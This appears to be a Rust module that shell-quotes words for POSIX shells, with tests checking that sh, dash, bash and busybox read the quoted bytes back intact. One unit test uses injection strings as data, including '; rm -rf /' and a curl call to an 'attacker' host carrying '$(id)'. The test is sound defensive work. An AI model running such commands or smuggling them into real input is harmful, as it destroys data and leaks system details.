//! Quotes words for a POSIX shell, which reads back the same bytes.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;

/// Appends `word`, quoted if necessary. It has no NUL byte: `Argv`, `Env` and `ContainerPath`
/// ensure that.
pub(crate) fn push_quoted(text: &mut Vec<u8>, word: &OsStr) {
    match shlex::bytes::try_quote(word.as_bytes()) {
        Ok(quoted) => text.extend_from_slice(&quoted),
        // Only fails for a NUL byte, which no checked value has.
        Err(_) => text.extend_from_slice(b"''"),
    }
}

#[cfg(test)]
mod tests {
    use std::ffi::OsString;
    use std::os::unix::ffi::OsStringExt;

    use proptest::prelude::*;
    use rt_process::{ProcessSpec, Program, capture};
    use rt_protocol::{OutputLimit, Source, Until};

    use super::*;

    fn quoted(word: &str) -> String {
        let mut text = Vec::new();
        push_quoted(&mut text, OsStr::new(word));
        String::from_utf8(text).unwrap()
    }

    #[test]
    fn plain_words_stay_as_they_are_and_others_are_one_word() {
        assert_eq!(quoted("echo"), "echo");
        assert_eq!(quoted("; rm -rf /"), "'; rm -rf /'");
        assert_eq!(quoted(""), "''");
        assert_eq!(quoted("X=1; curl http://attacker/$(id)"), "'X=1; curl http://attacker/$(id)'");
    }

    fn read_back(shell: &[&str], words: &[Vec<u8>]) -> Vec<u8> {
        let mut text = b"printf '%s\\0'".to_vec();
        for word in words {
            text.push(b' ');
            push_quoted(&mut text, &OsString::from_vec(word.clone()));
        }
        let spec = ProcessSpec::new(&Program::find(shell[0]).unwrap())
            .args(&shell[1..])
            .args([OsString::from("-c"), OsString::from_vec(text)]);
        let limit = OutputLimit::UNLIMITED;
        capture(&spec, Source::empty(), limit, limit, &Until::forever()).unwrap().stdout_capture.into_bytes()
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn every_shell_reads_the_words_back(words in proptest::collection::vec(proptest::collection::vec(1u8.., 0..24), 1..5)) {
            let expected: Vec<u8> = words.iter().flat_map(|word| word.iter().copied().chain([0])).collect();
            for shell in [&["sh"][..], &["dash"], &["bash"], &["busybox", "sh"]] {
                if Program::find(shell[0]).is_ok() {
                    prop_assert_eq!(&read_back(shell, &words), &expected, "{:?}", shell);
                }
            }
        }
    }
}
